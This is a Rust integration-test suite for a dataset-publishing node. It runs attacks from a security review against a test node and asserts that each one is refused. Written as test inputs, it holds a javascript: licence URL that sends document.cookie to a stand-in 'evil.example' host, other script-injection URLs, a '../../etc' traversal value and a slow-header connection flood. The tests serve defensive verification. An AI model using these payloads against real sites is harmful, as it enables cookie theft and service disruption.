//! Attacks from the security review, each performed against a real node.

use reqwest::StatusCode;
use serde_json::json;

use chrono::Utc;
use shulian::crypto::{KeyPair, canonical};

use crate::helpers::{
    Backend, TestApp, assert_problem, metadata, order, place_test_order, post_order, receipts, sha256_hex, signed,
};
use crate::on_both_backends;

on_both_backends!(
    a_publisher_cannot_list_bytes_it_never_uploaded,
    a_short_body_under_a_held_digest_is_a_digest_mismatch,
    ranges_spend_the_download_limit_and_are_receipted,
    concurrent_range_readers_get_no_more_than_the_limit,
    a_read_session_carries_a_bounded_number_of_bytes,
    a_receipt_is_acknowledged_once_by_the_order_token_holder,
    signed_documents_are_small,
    log_pages_are_bounded_in_bytes,
    writes_over_the_rate_get_429_with_retry_after,
    connections_per_address_are_bounded_and_slow_headers_time_out,
    licence_links_are_web_urls_and_pages_run_no_inline_script,
    a_node_refuses_to_start_on_half_its_state,
    licensed_schemas_show_no_values_unless_the_offer_says_so,
    names_with_invisible_characters_are_refused,
    previews_under_an_order_are_reads_of_the_file,
);

const LICENSED_CSV: &[u8] = "身份证号,诊断\n110101199001010011,高血压\n".as_bytes();

/// Publisher B's licensed file, and publisher A's token.
async fn two_publishers(app: &TestApp) -> String {
    let victim = app.publisher("hospital").await;
    let published = app
        .publish(&victim, "patients", "licensed", &[("records.csv", LICENSED_CSV)])
        .await;
    assert_eq!(published.status(), StatusCode::CREATED);
    app.publisher("intruder").await
}

/// A version body listing B's licensed file by its public digest and size.
fn listing_of_the_victims_file(dataset: &str) -> serde_json::Value {
    json!({
        "metadata": metadata(dataset, "open"),
        "files": [{"name": "copy.csv", "mediaType": "text/csv", "size": LICENSED_CSV.len(), "sha256": sha256_hex(LICENSED_CSV)}],
    })
}

async fn a_publisher_cannot_list_bytes_it_never_uploaded(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let intruder = two_publishers(&app).await;
    let digest = sha256_hex(LICENSED_CSV);

    let probe = app
        .http
        .head(app.api(&format!("/api/v1/blobs/{digest}")))
        .bearer_auth(&intruder)
        .send()
        .await
        .expect("probe");
    assert_eq!(
        probe.status(),
        StatusCode::NOT_FOUND,
        "another publisher's bytes are not the intruder's to skip uploading"
    );
    let before = app.snapshot().await;
    let response = app
        .post_version(&intruder, "leak", listing_of_the_victims_file("leak"))
        .await;
    let problem = assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY, "missing-blob").await;
    assert!(
        problem["detail"].as_str().is_some_and(|d| d.contains(&digest)),
        "{problem}"
    );
    assert_eq!(app.snapshot().await, before, "nothing was published");
    let anonymous = app.get("/api/v1/datasets/leak/versions/latest/files/copy.csv").await;
    assert_eq!(anonymous.status(), StatusCode::NOT_FOUND);

    // Whoever really holds the bytes may publish them: uploading them proves it.
    assert_eq!(app.upload(&intruder, LICENSED_CSV).await.status(), StatusCode::OK);
    let response = app
        .post_version(&intruder, "own-copy", listing_of_the_victims_file("own-copy"))
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
}

async fn a_short_body_under_a_held_digest_is_a_digest_mismatch(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let intruder = two_publishers(&app).await;
    let digest = sha256_hex(LICENSED_CSV);

    for body in [&b"x"[..], &LICENSED_CSV[..LICENSED_CSV.len() - 1], b""] {
        let response = app
            .http
            .put(app.api(&format!("/api/v1/blobs/{digest}")))
            .bearer_auth(&intruder)
            .body(body.to_vec())
            .send()
            .await
            .expect("upload");
        assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY, "digest-mismatch").await;
    }
    let response = app
        .post_version(&intruder, "leak", listing_of_the_victims_file("leak"))
        .await;
    assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY, "missing-blob").await;
    let anonymous = app.get("/api/v1/datasets/leak/versions/latest/files/copy.csv").await;
    assert_eq!(anonymous.status(), StatusCode::NOT_FOUND);
}

/// A licensed file and an agreed order for it allowing two downloads.
struct OrderedFile {
    url: String,
    order_id: String,
    token: String,
    publisher: String,
}

async fn ordered_file(app: &TestApp) -> OrderedFile {
    let publisher = app.publisher("hospital").await;
    let published = app
        .publish(&publisher, "patients", "licensed", &[("records.csv", LICENSED_CSV)])
        .await;
    assert_eq!(published.status(), StatusCode::CREATED);
    let placed = place_test_order(app, "patients").await;
    OrderedFile {
        url: app.api("/api/v1/datasets/patients/versions/1/files/records.csv"),
        order_id: placed["orderId"].as_str().expect("order id").to_owned(),
        token: placed["accessToken"].as_str().expect("token").to_owned(),
        publisher,
    }
}

/// GETs `range` of a file with an order token, in `session` when given.
async fn read_range(app: &TestApp, url: &str, token: &str, range: &str, session: Option<&str>) -> reqwest::Response {
    let mut request = app.http.get(url).bearer_auth(token).header("range", range);
    if let Some(session) = session {
        request = request.header("shulian-read-session", session);
    }
    request.send().await.expect("range request")
}

/// The refusals the publisher's order listing counts for the order.
async fn refusals(app: &TestApp, ordered: &OrderedFile) -> u64 {
    app.publisher_orders(&ordered.publisher)
        .await
        .iter()
        .find(|o| o["id"] == ordered.order_id.as_str())
        .and_then(|o| o["refusals"].as_u64())
        .expect("order listed")
}

async fn ranges_spend_the_download_limit_and_are_receipted(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let ordered = ordered_file(&app).await;
    let (url, order_id, token) = (&ordered.url, &ordered.order_id, &ordered.token);
    let last = LICENSED_CSV.len() - 1;

    // The attack: everything but the (guessable) last byte, again and again.
    let mut served = 0;
    for _ in 0..6 {
        let response = read_range(&app, url, token, &format!("bytes=0-{}", last - 1), None).await;
        match response.status() {
            StatusCode::PARTIAL_CONTENT => {
                assert_eq!(response.bytes().await.expect("body").as_ref(), &LICENSED_CSV[..last]);
                served += 1;
            }
            _ => {
                assert_problem(response, StatusCode::FORBIDDEN, "order-inactive").await;
            }
        }
    }
    assert_eq!(served, 2, "each read session is one of the order's two downloads");
    let listed = receipts(&app, order_id, token).await;
    assert_eq!(
        listed.len(),
        2,
        "every session that carried licensed bytes has its receipt"
    );
    for (index, entry) in listed.iter().enumerate() {
        let receipt = &entry["receipt"];
        assert_eq!(receipt["delivery"], index + 1);
        assert_eq!(
            receipt["covers"]["ranges"],
            json!([[0, LICENSED_CSV.len()]]),
            "{receipt}"
        );
        assert!(receipt["covers"]["session"].as_str().is_some_and(|s| !s.is_empty()));
        assert!(
            receipt["covers"]["maxBytes"]
                .as_u64()
                .is_some_and(|m| m >= LICENSED_CSV.len() as u64)
        );
    }
    assert_eq!(refusals(&app, &ordered).await, 4, "each refused range is recorded");

    // Suffix and one-byte ranges open sessions too: nothing is left for them.
    for range in [
        "bytes=-1".to_owned(),
        format!("bytes={last}-{last}"),
        "bytes=0-0".to_owned(),
    ] {
        let response = read_range(&app, url, token, &range, Some(&format!("fresh-{}", range.len()))).await;
        assert_problem(response, StatusCode::FORBIDDEN, "order-inactive").await;
    }
    assert_eq!(receipts(&app, order_id, token).await.len(), 2);
}

async fn concurrent_range_readers_get_no_more_than_the_limit(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let ordered = ordered_file(&app).await;
    let (url, order_id, token) = (&ordered.url, &ordered.order_id, &ordered.token);
    let range = format!("bytes=0-{}", LICENSED_CSV.len() - 2);
    let answers = futures::future::join_all((0..8).map(|_| read_range(&app, url, token, &range, None))).await;
    let mut served = 0;
    for response in answers {
        match response.status() {
            StatusCode::PARTIAL_CONTENT => served += 1,
            status => assert_eq!(status, StatusCode::FORBIDDEN),
        }
    }
    assert_eq!(served, 2);
    assert_eq!(receipts(&app, order_id, token).await.len(), 2);
}

async fn a_read_session_carries_a_bounded_number_of_bytes(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let ordered = ordered_file(&app).await;
    let (url, order_id, token) = (&ordered.url, &ordered.order_id, &ordered.token);
    let size = LICENSED_CSV.len() as u64;

    // Overlapping ranges in one session: one download, one receipt, until the session's bytes are spent.
    let mut carried = 0u64;
    let mut answers = 0;
    loop {
        let response = read_range(&app, url, token, "bytes=0-", Some("one-session")).await;
        if response.status() != StatusCode::PARTIAL_CONTENT {
            assert_problem(response, StatusCode::FORBIDDEN, "order-inactive").await;
            break;
        }
        assert_eq!(response.headers()["shulian-read-session"], "one-session");
        carried += response.bytes().await.expect("body").len() as u64;
        answers += 1;
        assert!(answers < 5000, "a session must run out of bytes");
    }
    let listed = receipts(&app, order_id, token).await;
    assert_eq!(listed.len(), 1, "one session, one download");
    let max_bytes = listed[0]["receipt"]["covers"]["maxBytes"].as_u64().expect("maxBytes");
    assert!(
        carried <= max_bytes && carried + size > max_bytes,
        "{carried} of {max_bytes}"
    );

    // Many tiny ranges in new sessions: one download each, and only one is left.
    let tiny = read_range(&app, url, token, "bytes=5-5", Some("tiny-1")).await;
    assert_eq!(tiny.status(), StatusCode::PARTIAL_CONTENT);
    let tiny = read_range(&app, url, token, "bytes=6-6", Some("tiny-2")).await;
    assert_problem(tiny, StatusCode::FORBIDDEN, "order-inactive").await;
    assert_eq!(receipts(&app, order_id, token).await.len(), 2);

    // A made-up session name is no way around it; nor is a malformed one.
    let bad = read_range(&app, url, token, "bytes=0-0", Some("../../etc")).await;
    assert_problem(bad, StatusCode::BAD_REQUEST, "invalid-request").await;
}

/// A licensed file ordered by a buyer whose key the test keeps; one download made.
/// Returns (order id, order token, buyer key, receipt digest).
async fn delivered_with_key(app: &TestApp) -> (String, String, KeyPair, String) {
    let publisher = app.publisher("hospital").await;
    app.publish(&publisher, "patients", "licensed", &[("records.csv", LICENSED_CSV)])
        .await;
    let (_, node) = app.get_json("/.well-known/shulian-node").await;
    let (_, version) = app.get_json("/api/v1/datasets/patients/versions/1").await;
    let buyer = KeyPair::generate();
    let document = order(
        node["id"].as_str().expect("did"),
        "patients",
        version["manifestDigest"].as_str().expect("digest"),
        &buyer,
    );
    let placed: serde_json::Value = post_order(app, &signed(document, &buyer))
        .await
        .json()
        .await
        .expect("json");
    let (order_id, token) = (
        placed["orderId"].as_str().expect("id").to_owned(),
        placed["accessToken"].as_str().expect("token").to_owned(),
    );
    app.download_with(
        &app.api("/api/v1/datasets/patients/versions/1/files/records.csv"),
        &token,
    )
    .await;
    let listed = receipts(app, &order_id, &token).await;
    let receipt_text = canonical::canonicalize(&listed[0]["receipt"]).expect("jcs");
    let digest = format!("sha256:{}", sha256_hex(receipt_text.as_bytes()));
    (order_id, token, buyer, digest)
}

fn acknowledgement(order_id: &str, receipt_digest: &str, buyer: &KeyPair, padding: usize) -> serde_json::Value {
    let mut unsigned = json!({
        "type": "ShulianReceiptAcknowledgement",
        "order": order_id,
        "receiptDigest": receipt_digest,
        "recipient": buyer.public().did(),
        "acknowledged": Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
    });
    if padding > 0 {
        unsigned["note"] = json!("x".repeat(padding));
    }
    signed(unsigned, buyer)
}

async fn post_acknowledgement(
    app: &TestApp,
    order_id: &str,
    token: Option<&str>,
    body: &serde_json::Value,
) -> reqwest::Response {
    let mut request = app
        .http
        .post(app.api(&format!("/api/v1/orders/{order_id}/acknowledgements")))
        .json(body);
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    request.send().await.expect("acknowledge")
}

async fn a_receipt_is_acknowledged_once_by_the_order_token_holder(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (order_id, token, buyer, digest) = delivered_with_key(&app).await;
    let document = acknowledgement(&order_id, &digest, &buyer, 0);

    let anonymous = post_acknowledgement(&app, &order_id, None, &document).await;
    assert_problem(anonymous, StatusCode::UNAUTHORIZED, "unauthorized").await;
    let other = place_test_order(&app, "patients").await;
    let foreign = post_acknowledgement(&app, &order_id, other["accessToken"].as_str(), &document).await;
    assert_problem(foreign, StatusCode::FORBIDDEN, "forbidden").await;

    let before = app.ctx.store.log_size().await.expect("size");
    let first = post_acknowledgement(&app, &order_id, Some(&token), &document).await;
    assert_eq!(first.status(), StatusCode::CREATED);
    let first: serde_json::Value = first.json().await.expect("json");
    assert_eq!(app.ctx.store.log_size().await.expect("size"), before + 1);
    // The replay, and a freshly signed second acknowledgement of the same receipt, log nothing.
    for again in [document.clone(), acknowledgement(&order_id, &digest, &buyer, 0)] {
        for _ in 0..5 {
            let response = post_acknowledgement(&app, &order_id, Some(&token), &again).await;
            assert_eq!(response.status(), StatusCode::OK);
            let repeat: serde_json::Value = response.json().await.expect("json");
            assert_eq!(repeat["logIndex"], first["logIndex"]);
        }
    }
    assert_eq!(
        app.ctx.store.log_size().await.expect("size"),
        before + 1,
        "the log did not grow"
    );
}

async fn signed_documents_are_small(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (order_id, token, buyer, digest) = delivered_with_key(&app).await;
    let before = app.ctx.store.log_size().await.expect("size");
    let bloated = acknowledgement(&order_id, &digest, &buyer, 100_000);
    let response = post_acknowledgement(&app, &order_id, Some(&token), &bloated).await;
    assert_problem(response, StatusCode::PAYLOAD_TOO_LARGE, "payload-too-large").await;
    let mut big_order = order("did:key:z6Mkx", "patients", "sha256:00", &buyer);
    big_order["purpose"] = json!("研".repeat(40_000));
    let response = post_order(&app, &signed(big_order, &buyer)).await;
    assert_problem(response, StatusCode::PAYLOAD_TOO_LARGE, "payload-too-large").await;
    assert_eq!(app.ctx.store.log_size().await.expect("size"), before);
}

async fn log_pages_are_bounded_in_bytes(backend: Backend) {
    let app = TestApp::spawn_with(backend, |settings| settings.log_page_max_bytes = Some(3000)).await;
    let publisher = app.publisher("hospital").await;
    for version in 0..4 {
        let csv = format!("id,value\n{version},{}\n", "v".repeat(500));
        app.publish(&publisher, "growing", "open", &[("data.csv", csv.as_bytes())])
            .await;
    }
    let size = app.ctx.store.log_size().await.expect("size");
    assert!(size >= 4);
    let mut next = 0;
    let mut pages = 0;
    while next < size {
        let (status, page) = app
            .get_json(&format!("/api/v1/log/entries?start={next}&end={size}"))
            .await;
        assert_eq!(status, StatusCode::OK);
        let entries = page.as_array().expect("list");
        assert!(!entries.is_empty(), "a page holds at least one entry");
        let bytes: usize = entries
            .iter()
            .map(|e| canonical::canonicalize(&e["entry"]).expect("jcs").len())
            .sum();
        assert!(
            entries.len() == 1 || bytes <= 3000,
            "{} entries, {bytes} bytes",
            entries.len()
        );
        for entry in entries {
            assert_eq!(entry["index"], next, "pages continue without gaps");
            next += 1;
        }
        pages += 1;
    }
    assert!(pages > 1, "the entries did not fit one page");
}

async fn writes_over_the_rate_get_429_with_retry_after(backend: Backend) {
    let app = TestApp::spawn_with(backend, |settings| {
        settings.writes_per_minute = Some(60);
        settings.write_burst = Some(5);
    })
    .await;
    let publisher = app.publisher("busy").await;
    let before = app.ctx.store.log_size().await.expect("size");
    let mut statuses = Vec::new();
    for attempt in 0..8 {
        let order = json!({"type": "ShulianOrder", "nonce": attempt});
        statuses.push(post_order(&app, &order).await);
    }
    let (allowed, limited): (Vec<_>, Vec<_>) = statuses
        .into_iter()
        .partition(|r| r.status() != StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(allowed.len(), 5, "the burst passes (and is refused on its merits)");
    for response in limited {
        let retry: u64 = response.headers()["retry-after"]
            .to_str()
            .expect("ascii")
            .parse()
            .expect("seconds");
        assert!((1..=60).contains(&retry));
        assert_problem(response, StatusCode::TOO_MANY_REQUESTS, "rate-limited").await;
    }
    // Uploads from the same address share its budget; reads are never limited.
    let upload = app.upload(&publisher, b"more").await;
    assert_eq!(upload.status(), StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(app.get("/api/v1/datasets").await.status(), StatusCode::OK);
    assert_eq!(app.ctx.store.log_size().await.expect("size"), before);
}

async fn connections_per_address_are_bounded_and_slow_headers_time_out(backend: Backend) {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let app = TestApp::spawn_with(backend, |settings| {
        settings.max_connections_per_address = Some(3);
        settings.header_read_timeout_secs = Some(1);
    })
    .await;
    let address = app.url.trim_start_matches("http://").to_owned();
    // A slow client holds three connections, sending a header line now and then.
    let mut slow = Vec::new();
    for _ in 0..3 {
        let mut stream = tokio::net::TcpStream::connect(&address).await.expect("connect");
        stream
            .write_all(b"GET /api/v1/datasets HTTP/1.1\r\n")
            .await
            .expect("write");
        slow.push(stream);
    }
    // The fourth connection is closed at once, without an answer.
    let mut fourth = tokio::net::TcpStream::connect(&address).await.expect("connect");
    let _ = fourth.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n").await;
    let mut answer = Vec::new();
    let read = tokio::time::timeout(std::time::Duration::from_secs(5), fourth.read_to_end(&mut answer)).await;
    assert!(
        matches!(read, Ok(Ok(0)) | Ok(Err(_))),
        "the connection over the limit is closed unanswered: {:?}",
        String::from_utf8_lossy(&answer)
    );
    // The slow clients' headers never complete: the node drops them after the header timeout.
    for mut stream in slow {
        let mut rest = Vec::new();
        let read = tokio::time::timeout(std::time::Duration::from_secs(10), stream.read_to_end(&mut rest)).await;
        assert!(read.is_ok(), "a client that never finishes its headers is cut off");
    }
    // Their slots are free again.
    assert_eq!(app.get("/healthz").await.status(), StatusCode::OK);
}

async fn licence_links_are_web_urls_and_pages_run_no_inline_script(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let publisher = app.publisher("city").await;
    let mut hostile = metadata("hostile", "open");
    hostile["license"] = json!({"id": "点我 click", "url": "javascript:fetch('//evil.example/'+document.cookie)"});
    assert!(app.upload(&publisher, b"a,b\n1,2\n").await.status().is_success());
    let files = json!([{"name": "a.csv", "mediaType": "text/csv", "size": 8, "sha256": sha256_hex(b"a,b\n1,2\n")}]);
    for url in [
        "javascript:alert(1)",
        " JAVASCRIPT:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example/x",
        "https://",
    ] {
        hostile["license"]["url"] = json!(url);
        let response = app
            .post_version(&publisher, "hostile", json!({"metadata": hostile, "files": files}))
            .await;
        let problem = assert_problem(response, StatusCode::BAD_REQUEST, "invalid-request").await;
        assert!(
            problem["detail"].as_str().is_some_and(|d| d.contains("license.url")),
            "{problem}"
        );
    }

    // A licence link stored before publishing checked it is not rendered as a link either.
    let mut fine = metadata("fine", "open");
    fine["license"] = json!({"id": "CC-BY-4.0", "url": "https://creativecommons.org/licenses/by/4.0/"});
    let response = app
        .post_version(&publisher, "fine", json!({"metadata": fine, "files": files}))
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let page = app.get("/datasets/fine").await.text().await.expect("page");
    assert!(page.contains("href=\"https://creativecommons.org/licenses/by/4.0/\""));
    app.tamper("UPDATE datasets SET metadata = REPLACE(metadata, 'https://creativecommons.org/licenses/by/4.0/', 'javascript:alert(1)')")
        .await;
    let page = app.get("/datasets/fine").await;
    let headers = page.headers().clone();
    let page = page.text().await.expect("page");
    assert!(page.contains("CC-BY-4.0"));
    assert!(!page.to_ascii_lowercase().contains("javascript:"), "{page}");
    for document in [
        "/api/v1/datasets/fine/dcat.jsonld",
        "/api/3/action/package_show?id=fine",
        "/api/v1/datasets/fine/versions/1/datapackage.json",
    ] {
        let text = app.get(document).await.text().await.expect("document");
        assert!(!text.to_ascii_lowercase().contains("javascript:"), "{document}: {text}");
    }

    let csp = headers["content-security-policy"].to_str().expect("ascii");
    for directive in [
        "default-src 'none'",
        "script-src 'self'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
    ] {
        assert!(csp.contains(directive), "{csp}");
    }
    assert!(!csp.contains("unsafe-inline"));
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(headers.contains_key("referrer-policy"));
    let inline_scripts = page.matches("<script").count()
        - page.matches("<script src=").count()
        - page.matches(r#"<script type="application/ld+json">"#).count();
    assert_eq!(
        inline_scripts, 0,
        "every script is a file the CSP allows (JSON-LD is data, never run)"
    );
    let script = app.get("/static/copy.js").await;
    assert_eq!(script.status(), StatusCode::OK);
    assert!(
        script.headers()["content-type"]
            .to_str()
            .expect("ascii")
            .starts_with("text/javascript")
    );

    let english = app.get("/?lang=en").await;
    let cookie = english.headers()["set-cookie"].to_str().expect("ascii").to_owned();
    assert!(
        cookie.contains("SameSite=Lax") && cookie.contains("HttpOnly"),
        "{cookie}"
    );
    assert!(!cookie.contains("Secure"), "plain-http node: {cookie}");
}

/// An empty database of the test's backend, as after the real one went missing.
async fn empty_database(app: &TestApp, backend: &Backend) -> String {
    match backend {
        Backend::Sqlite => format!("sqlite://{}", app.dir.path().join("replacement.db").display()),
        Backend::Postgres { admin_url } => {
            let name = format!("shulian_test_{}", uuid::Uuid::new_v4().simple());
            crate::helpers::create_database(admin_url, &name).await;
            crate::helpers::with_database(admin_url, &name)
        }
    }
}

async fn a_node_refuses_to_start_on_half_its_state(backend: Backend) {
    use shulian::app::App;
    let mut app = TestApp::spawn(backend.clone()).await;
    let publisher = app.publisher("city").await;
    app.publish(&publisher, "traffic", "open", &[("a.csv", b"a\n1\n")])
        .await;
    app.begin_shutdown();
    app.wait_stopped().await;
    let key_file = app.config.node_key_file.clone();
    let refusal = |config: &shulian::config::Config| {
        let config = config.clone();
        async move {
            match App::build(&config).await {
                Ok(_) => panic!("the node started on half its state"),
                Err(error) => format!("{error:#}"),
            }
        }
    };

    // The database went missing; the key is still there.
    let mut config = app.config.clone();
    config.database_url = empty_database(&app, &backend).await;
    let message = refusal(&config).await;
    assert!(
        message.contains("database is empty") && message.contains("--reinitialize"),
        "{message}"
    );

    // The key went missing; the database (and its log) is still there.
    let saved_key = std::fs::read(&key_file).expect("key");
    std::fs::remove_file(&key_file).expect("remove key");
    let message = refusal(&app.config).await;
    assert!(
        message.contains("is missing") && message.contains("entries"),
        "{message}"
    );
    assert!(!key_file.exists(), "no new identity was made");

    // Another key over this database's log.
    KeyPair::generate().save(&key_file).expect("other key");
    let message = refusal(&app.config).await;
    assert!(message.contains("signed by"), "{message}");

    // The right key again, left readable by everyone: the node narrows its mode and starts.
    std::fs::remove_file(&key_file).expect("remove");
    std::fs::write(&key_file, &saved_key).expect("restore key");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(&key_file, std::fs::Permissions::from_mode(0o644)).expect("chmod");
        App::build(&app.config).await.expect("the restored node starts");
        let mode = std::fs::metadata(&key_file).expect("meta").permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    // Deliberately starting a new log under the key is possible, and says so by its flag.
    config.reinitialize = true;
    App::build(&config).await.expect("reinitialised");
}

async fn licensed_schemas_show_no_values_unless_the_offer_says_so(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let publisher = app.publisher("hospital").await;
    let table = "姓名,年龄\n张三丰,30\n李四光,41\n".as_bytes();
    app.publish(&publisher, "private-stats", "licensed", &[("people.csv", table)])
        .await;
    let mut open_stats = metadata("public-stats", "licensed");
    open_stats["offer"]["publicStatistics"] = json!(true);
    app.publish_files(
        &publisher,
        "public-stats",
        open_stats,
        &[("people.csv", "text/csv", table)],
    )
    .await;
    app.publish(&publisher, "open-table", "open", &[("people.csv", table)])
        .await;

    let schema = |dataset: &str| format!("/api/v1/datasets/{dataset}/versions/1/files/people.csv/schema");
    let (status, private) = app.get_json(&schema("private-stats")).await;
    assert_eq!(status, StatusCode::OK);
    let columns = private["columns"].as_array().expect("columns");
    assert_eq!(columns.len(), 2, "the shape stays public");
    for column in columns {
        assert!(column.get("min").is_none() && column.get("max").is_none(), "{column}");
    }
    let page = app.get("/datasets/private-stats").await.text().await.expect("page");
    assert!(
        !page.contains("张三丰") && !page.contains("李四光"),
        "the web page shows no values either"
    );
    for dataset in ["public-stats", "open-table"] {
        let (_, shown) = app.get_json(&schema(dataset)).await;
        assert_eq!(shown["columns"][0]["min"], "张三丰", "{dataset}: {shown}");
    }
}

async fn names_with_invisible_characters_are_refused(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let publisher = app.publisher("city").await;
    let bytes = b"harmless";
    assert!(app.upload(&publisher, bytes).await.status().is_success());
    let before = app.snapshot().await;
    for name in ["invoice\u{202E}vsc.exe", "data\u{200B}.csv", "\u{2067}report.csv"] {
        let body = json!({
            "metadata": metadata("tricky", "open"),
            "files": [{"name": name, "mediaType": "text/csv", "size": bytes.len(), "sha256": sha256_hex(bytes)}],
        });
        let response = app.post_version(&publisher, "tricky", body).await;
        assert_problem(response, StatusCode::BAD_REQUEST, "invalid-request").await;
    }
    let mut hidden_keyword = metadata("tricky", "open");
    hidden_keyword["keywords"] = json!(["交通\u{200D}"]);
    let body = json!({
        "metadata": hidden_keyword,
        "files": [{"name": "a.csv", "mediaType": "text/csv", "size": bytes.len(), "sha256": sha256_hex(bytes)}],
    });
    let response = app.post_version(&publisher, "tricky", body).await;
    assert_problem(response, StatusCode::BAD_REQUEST, "invalid-request").await;
    assert_eq!(app.snapshot().await, before);
}

async fn previews_under_an_order_are_reads_of_the_file(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let ordered = ordered_file(&app).await;
    let preview = |session: Option<&'static str>| {
        let mut request = app
            .http
            .get(format!("{}/preview?limit=10", ordered.url))
            .bearer_auth(&ordered.token);
        if let Some(session) = session {
            request = request.header("shulian-read-session", session);
        }
        request.send()
    };
    let rows = preview(None).await.expect("preview");
    assert_eq!(rows.status(), StatusCode::OK);
    assert!(rows.text().await.expect("rows").contains("110101199001010011"));
    let listed = receipts(&app, &ordered.order_id, &ordered.token).await;
    assert_eq!(listed.len(), 1, "rows under an order are a receipted read");
    assert_eq!(listed[0]["receipt"]["covers"]["session"], "preview");
    assert_eq!(preview(None).await.expect("again").status(), StatusCode::OK);
    assert_eq!(
        receipts(&app, &ordered.order_id, &ordered.token).await.len(),
        1,
        "later previews continue the session"
    );
    // The second of the order's two downloads; then neither a new download nor a new preview session.
    app.download_with(&ordered.url, &ordered.token).await;
    let over = app
        .http
        .get(&ordered.url)
        .bearer_auth(&ordered.token)
        .send()
        .await
        .expect("third");
    assert_problem(over, StatusCode::FORBIDDEN, "order-inactive").await;
    let fresh = preview(Some("another")).await.expect("preview");
    assert_problem(fresh, StatusCode::FORBIDDEN, "order-inactive").await;
    assert_eq!(receipts(&app, &ordered.order_id, &ordered.token).await.len(), 2);
}
